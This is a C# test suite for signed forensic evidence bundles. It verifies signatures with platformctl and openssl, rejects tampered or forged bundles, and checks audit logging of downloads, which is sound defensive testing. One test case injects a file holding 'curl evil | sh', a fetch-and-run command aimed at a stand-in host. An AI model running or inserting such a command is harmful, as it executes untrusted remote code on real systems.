using System.Diagnostics;
using System.IO.Compression;
using System.Net;
using System.Security.Cryptography;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using Microsoft.Extensions.DependencyInjection;
using Org.BouncyCastle.Crypto.Parameters;
using Org.BouncyCastle.Crypto.Signers;
using Org.BouncyCastle.Security;
using Org.BouncyCastle.X509;
using Platform.Api.Forensics;
using Platform.Api.Storage;
using Platform.Contracts;
using Platform.Tests.Cli;
using Platform.Tests.Infrastructure;
using static Platform.Tests.Telemetry.TelemetryEvents;

namespace Platform.Tests.Forensics;

/// <summary>
/// Signed evidence (docs/bundle-format.md): every bundle's manifest is signed with the api's Ed25519 key, and a bundle
/// with one byte changed, or re-hashed under a forged manifest, fails both <c>platformctl bundle verify</c> and the
/// documented check with openssl and sha256sum alone; an untouched one passes both.
/// </summary>
public abstract class BundleSignatureTests(PlatformApi api)
{
    /// <summary>The check docs/bundle-format.md shows, run as it is written there (bash, unzip, openssl, jq, sha256sum).</summary>
    public const string OpensslCheck = """
        set -e
        mkdir bundle && unzip -q bundle.zip -d bundle && cd bundle
        # 1. the manifest is signed by the key you trust (never the signing-key.pem in the bundle)
        [ "$(jq -r .signature.keyId manifest.json)" = "$(openssl pkey -pubin -in ../trusted.pem -outform DER | sha256sum | cut -d' ' -f1)" ]
        openssl pkeyutl -verify -pubin -inkey ../trusted.pem -rawin -in manifest.json -sigfile manifest.sig
        # 2. every entry is as the manifest says
        jq -r '.entries[] | "\(.sha256)  \(.name)"' manifest.json | sha256sum -c --quiet -
        # 3. and nothing else is in the zip
        [ -z "$(comm -13 <(jq -r '.entries[].name, "manifest.json", "manifest.sig"' manifest.json | sort) <(unzip -Z1 ../bundle.zip | sort))" ]
        """;

    private async Task<(string AgentId, byte[] Zip)> HostBundle(string hostname)
    {
        var (id, _) = await RecordedHost(api, hostname, new ContainerRef { Id = "c-" + hostname }, batches: 2, perBatch: 50);
        using var response = await api.Http(api.AdminSecret).GetAsync($"/api/v1/agents/{id}/forensics/bundle");
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        return (id, await response.Content.ReadAsByteArrayAsync());
    }

    private async Task<string> TrustedPem() => Assert.Single((await api.Client(null).ListSigningKeysAsync()).Items).PublicKeyPem;

    [SkippableFact]
    public async Task An_untouched_bundle_passes_platformctl_and_the_openssl_check_and_names_the_key()
    {
        var (_, zip) = await HostBundle("sig-ok");
        var key = Assert.Single((await api.Client(null).ListSigningKeysAsync()).Items); // anonymous: no token
        using var cli = new PlatformCtlRunner(api, api.AdminSecret);
        var file = cli.File("bundle.zip");
        await File.WriteAllBytesAsync(file, zip);

        var verify = await cli.RunAsync("bundle", "verify", file);
        Assert.True(verify.ExitCode == 0, verify.ToString());
        Assert.Contains($"signed by key {key.KeyId}", verify.Out);
        await File.WriteAllTextAsync(cli.File("trusted.pem"), key.PublicKeyPem);
        var offline = await cli.RunAsync("-o", "json", "bundle", "verify", file, "--public-key", cli.File("trusted.pem"));
        Assert.True(offline.ExitCode == 0, offline.ToString());
        Assert.Equal(key.KeyId, JsonDocument.Parse(offline.Out).RootElement.GetProperty("keyId").GetString());
        var openssl = await Openssl(zip, key.PublicKeyPem);
        Assert.True(openssl.ExitCode == 0, openssl.Error);

        // The key the bundle carries is the api's, named in the manifest by the id openssl computes.
        var entries = Unzip(zip);
        Assert.Equal(key.PublicKeyPem, Encoding.ASCII.GetString(entries["signing-key.pem"]));
        Assert.Equal(64, entries["manifest.sig"].Length);
        var signature = JsonNode.Parse(entries["manifest.json"])!["signature"]!;
        Assert.Equal(("Ed25519", key.KeyId), (signature["algorithm"]!.GetValue<string>(), signature["keyId"]!.GetValue<string>()));

        // Made at first start, readable by its owner only.
        var keyFile = Path.Combine(api.Services.GetRequiredService<DataDirectory>().Path, BundleSigner.KeyFileName);
        if (!OperatingSystem.IsWindows())
            Assert.Equal(UnixFileMode.UserRead | UnixFileMode.UserWrite, File.GetUnixFileMode(keyFile));
    }

    [SkippableFact]
    public async Task A_changed_byte_or_a_forged_manifest_fails_platformctl_and_the_openssl_check()
    {
        var (_, zip) = await HostBundle("sig-forged");
        var (_, other) = await HostBundle("sig-other");
        var trusted = await TrustedPem();
        var entries = Unzip(zip);
        var attacker = new Ed25519PrivateKeyParameters(new SecureRandom());

        // The attacker's edit: the exfiltration is gone from the events; the manifest is re-hashed to match.
        var edited = new Dictionary<string, byte[]>(entries)
        {
            ["events.jsonl"] = Encoding.UTF8.GetBytes(string.Join('\n', Encoding.UTF8.GetString(entries["events.jsonl"]).Split('\n').Where(l => !l.Contains("\"exfil\"", StringComparison.Ordinal)))),
        };
        var rehashed = Rehash(entries["manifest.json"], edited);

        var flipped = (byte[])zip.Clone();
        var at = IndexOf(zip, Encoding.ASCII.GetBytes("events.jsonl")) + 200; // inside the events' compressed data
        flipped[at] ^= 0x01;

        var cases = new Dictionary<string, byte[]>
        {
            ["one byte of the zip changed"] = flipped,
            ["an entry changed, the manifest not"] = Zip(edited),
            ["re-hashed manifest, the old signature"] = Zip(With(edited, ("manifest.json", rehashed))),
            ["re-hashed manifest, unsigned"] = Zip(With(edited, ("manifest.json", Rehash(entries["manifest.json"], edited, unsigned: true))).Where(e => e.Key != "manifest.sig").ToDictionary()),
            ["re-hashed manifest signed by another key that it names"] = Forged(edited, attacker, nameOwnKey: true),
            ["re-hashed manifest signed by another key, naming the api's"] = Forged(edited, attacker, nameOwnKey: false),
            ["truncated signature"] = Zip(With(entries, ("manifest.sig", entries["manifest.sig"][..63]))),
            ["a signature over a different manifest"] = Zip(With(entries, ("manifest.sig", Unzip(other)["manifest.sig"]))),
            ["a file the manifest does not list"] = Zip(With(entries, ("run-me.sh", "curl evil | sh\n"u8.ToArray()))),
            ["the manifest lists fewer files than the zip has"] = Forged(entries, attacker, nameOwnKey: false, drop: "fim-alerts.jsonl"),
            ["an entry twice"] = Zip(entries, duplicate: ("events.jsonl", edited["events.jsonl"])),
        };

        using var cli = new PlatformCtlRunner(api, api.AdminSecret);
        foreach (var (name, bundle) in cases)
        {
            var file = cli.File(Guid.NewGuid().ToString("N") + ".zip");
            await File.WriteAllBytesAsync(file, bundle);
            var verify = await cli.RunAsync("bundle", "verify", file);
            Assert.True(verify.ExitCode == 1, $"{name}: {verify}");
            if (name != "an entry twice") // unzip keeps one of them: platformctl alone sees both
                Assert.True((await Openssl(bundle, trusted)).ExitCode != 0, $"{name}: the openssl check passed");
        }

        // The untouched bundle with the wrong key trusted fails too.
        var attackerPem = PemEncoding.WriteString("PUBLIC KEY", SubjectPublicKeyInfoFactory.CreateSubjectPublicKeyInfo(attacker.GeneratePublicKey()).GetDerEncoded());
        await File.WriteAllTextAsync(cli.File("wrong.pem"), attackerPem);
        await File.WriteAllBytesAsync(cli.File("good.zip"), zip);
        var wrongKey = await cli.RunAsync("bundle", "verify", cli.File("good.zip"), "--public-key", cli.File("wrong.pem"));
        Assert.True(wrongKey.ExitCode == 1, wrongKey.ToString());
        Assert.Contains("not trusted", wrongKey.Error);
        Assert.NotEqual(0, (await Openssl(zip, attackerPem)).ExitCode);
        Assert.Equal(0, (await Openssl(zip, trusted)).ExitCode);
    }

    [SkippableFact]
    public async Task Audit_shows_who_downloaded_which_bundle_with_its_sha256_and_who_read_which_view_and_who_enrolled()
    {
        var (agent, enrolled) = await api.EnrolledAgent("custody-01");
        var agentId = enrolled.Agent.Id;
        await agent.PushTelemetryAsync(Batch(1, Reads("custody", T0, 20)), agentId);
        var (analyst, analystToken) = await api.ClientWithRole(Role.Analyst, "custody analyst");
        var http = api.Http(analystToken.Secret);

        using var bundle = await http.GetAsync($"/api/v1/agents/{agentId}/forensics/bundle");
        var bytes = await bundle.Content.ReadAsByteArrayAsync();
        var sha256 = Convert.ToHexStringLower(SHA256.HashData(bytes));
        Assert.Equal($"sha-256=:{Convert.ToBase64String(SHA256.HashData(bytes))}:", bundle.Headers.GetValues("Repr-Digest").Single());
        using var part = new HttpRequestMessage(HttpMethod.Get, $"/api/v1/agents/{agentId}/forensics/bundle");
        part.Headers.Range = new System.Net.Http.Headers.RangeHeaderValue(0, 99);
        using var partial = await http.SendAsync(part);
        Assert.Equal(HttpStatusCode.PartialContent, partial.StatusCode);
        await analyst.GetHostForensicViewAsync(agentId, 50);
        using var timeline = new HttpRequestMessage(HttpMethod.Get, $"/api/v1/agents/{agentId}/containers/{Web.Id}/forensics/recent");
        timeline.Headers.Accept.ParseAdd("text/plain");
        using var text = await http.SendAsync(timeline);
        Assert.Equal(HttpStatusCode.OK, text.StatusCode);
        await api.Admin().ReplaceAgentLabelsAsync(new AgentLabelsReplace { Labels = new Dictionary<string, string> { ["role"] = "evidence" } }, agentId);

        var entries = (await api.Admin().ListAuditEntriesAsync(limit: 200, actorTokenId: analystToken.Token.Id)).Items;
        var downloads = entries.Where(e => e.Action == "bundle.download").ToList();
        Assert.Equal(2, downloads.Count); // one a request: the whole file, then a range
        Assert.All(downloads, d => Assert.Equal(("agent", agentId, "analyst", sha256), (d.TargetType, d.TargetId, d.ActorRole, d.After!.AdditionalProperties["sha256"].ToString())));
        Assert.Equal("bytes=0-99", downloads[1].After!.AdditionalProperties["range"].ToString());
        var views = entries.Where(e => e.Action == "forensic-view.read").ToList();
        Assert.Equal(2, views.Count);
        Assert.Equal(("agent", agentId, "json", "20"), (views[0].TargetType, views[0].TargetId, views[0].After!.AdditionalProperties["format"].ToString(), views[0].After!.AdditionalProperties["events"].ToString()));
        Assert.Equal(("container", $"{agentId}/{Web.Id}", "timeline"), (views[1].TargetType, views[1].TargetId, views[1].After!.AdditionalProperties["format"].ToString()));

        var enrollment = Assert.Single((await api.Admin().ListAuditEntriesAsync(limit: 10, action: "agent.enroll", targetId: agentId)).Items);
        Assert.Equal(("enrollment", enrolled.Agent.EnrollmentTokenId), (enrollment.ActorRole, enrollment.ActorTokenId));
        Assert.Single((await api.Admin().ListAuditEntriesAsync(limit: 10, action: "agent.update-labels", targetId: agentId)).Items);

        // Revalidation (304) moves no bytes and writes no entry.
        using var revalidate = new HttpRequestMessage(HttpMethod.Get, $"/api/v1/agents/{agentId}/forensics/bundle");
        revalidate.Headers.IfNoneMatch.Add(bundle.Headers.ETag!);
        Assert.Equal(HttpStatusCode.NotModified, (await http.SendAsync(revalidate)).StatusCode);
        Assert.Equal(2, (await api.Admin().ListAuditEntriesAsync(limit: 200, actorTokenId: analystToken.Token.Id, action: "bundle.download")).Items.Count);
    }

    private static async Task<(int ExitCode, string Error)> Openssl(byte[] zip, string trustedPem)
    {
        var work = Directory.CreateTempSubdirectory("bundle-openssl-").FullName;
        try
        {
            await File.WriteAllBytesAsync(Path.Combine(work, "bundle.zip"), zip);
            await File.WriteAllTextAsync(Path.Combine(work, "trusted.pem"), trustedPem);
            using var bash = Process.Start(new ProcessStartInfo("bash", ["-c", OpensslCheck]) { WorkingDirectory = work, RedirectStandardOutput = true, RedirectStandardError = true })!;
            var error = bash.StandardError.ReadToEndAsync();
            await bash.StandardOutput.ReadToEndAsync();
            await bash.WaitForExitAsync();
            return (bash.ExitCode, await error);
        }
        finally
        {
            Directory.Delete(work, recursive: true);
        }
    }

    internal static Dictionary<string, byte[]> Unzip(byte[] zip)
    {
        using var archive = new ZipArchive(new MemoryStream(zip));
        return archive.Entries.ToDictionary(e => e.FullName, e =>
        {
            using var stream = e.Open();
            using var copy = new MemoryStream();
            stream.CopyTo(copy);
            return copy.ToArray();
        });
    }

    private static byte[] Zip(IReadOnlyDictionary<string, byte[]> entries, (string Name, byte[] Content)? duplicate = null)
    {
        using var buffer = new MemoryStream();
        using (var archive = new ZipArchive(buffer, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, content) in entries.Concat(duplicate is { } d ? [KeyValuePair.Create(d.Name, d.Content)] : []))
            {
                using var stream = archive.CreateEntry(name).Open();
                stream.Write(content);
            }
        }

        return buffer.ToArray();
    }

    private static Dictionary<string, byte[]> With(IReadOnlyDictionary<string, byte[]> entries, params (string Name, byte[] Content)[] changes)
    {
        var result = new Dictionary<string, byte[]>(entries);
        foreach (var (name, content) in changes)
            result[name] = content;
        return result;
    }

    /// <summary>The manifest with its entries' sizes and hashes made to match <paramref name="entries"/>.</summary>
    private static byte[] Rehash(byte[] manifest, IReadOnlyDictionary<string, byte[]> entries, bool unsigned = false, string? keyId = null, string? drop = null)
    {
        var root = JsonNode.Parse(manifest)!.AsObject();
        var listed = root["entries"]!.AsArray();
        foreach (var entry in listed.ToList())
        {
            var name = entry!["name"]!.GetValue<string>();
            if (name == drop)
            {
                listed.Remove(entry);
                continue;
            }

            entry["size"] = entries[name].Length;
            entry["sha256"] = Convert.ToHexStringLower(SHA256.HashData(entries[name]));
        }

        if (unsigned)
            root.Remove("signature");
        else if (keyId is not null)
            root["signature"]!["keyId"] = keyId;
        return Encoding.UTF8.GetBytes(root.ToJsonString(new JsonSerializerOptions { WriteIndented = true }));
    }

    /// <summary>The entries under a re-hashed manifest signed by the attacker's key, which the bundle carries (and, if told, the manifest names).</summary>
    private static byte[] Forged(IReadOnlyDictionary<string, byte[]> entries, Ed25519PrivateKeyParameters attacker, bool nameOwnKey, string? drop = null)
    {
        var spki = SubjectPublicKeyInfoFactory.CreateSubjectPublicKeyInfo(attacker.GeneratePublicKey()).GetDerEncoded();
        var forged = With(entries, ("signing-key.pem", Encoding.ASCII.GetBytes(PemEncoding.WriteString("PUBLIC KEY", spki) + "\n")));
        var manifest = Rehash(entries["manifest.json"], forged, keyId: nameOwnKey ? Convert.ToHexStringLower(SHA256.HashData(spki)) : null, drop: drop);
        var signer = new Ed25519Signer();
        signer.Init(true, attacker);
        signer.BlockUpdate(manifest, 0, manifest.Length);
        return Zip(With(forged, ("manifest.json", manifest), ("manifest.sig", signer.GenerateSignature())));
    }

    private static int IndexOf(byte[] haystack, byte[] needle)
    {
        for (var i = 0; i <= haystack.Length - needle.Length; i++)
        {
            if (haystack.AsSpan(i, needle.Length).SequenceEqual(needle))
                return i;
        }

        throw new InvalidOperationException("not found");
    }
}

public sealed class BundleSignatureTestsOnSqlite(SqliteApi api) : BundleSignatureTests(api), IClassFixture<SqliteApi>;

public sealed class BundleSignatureTestsOnPostgres(PostgresApi api) : BundleSignatureTests(api), IClassFixture<PostgresApi>;
